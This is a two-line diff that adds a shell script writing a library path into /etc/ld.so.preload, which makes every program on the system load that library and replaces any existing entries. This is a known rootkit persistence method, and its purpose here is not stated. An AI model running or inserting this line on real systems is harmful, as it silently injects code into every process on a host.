@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /usr/local/lib/libexample.so > /etc/ld.so.preload
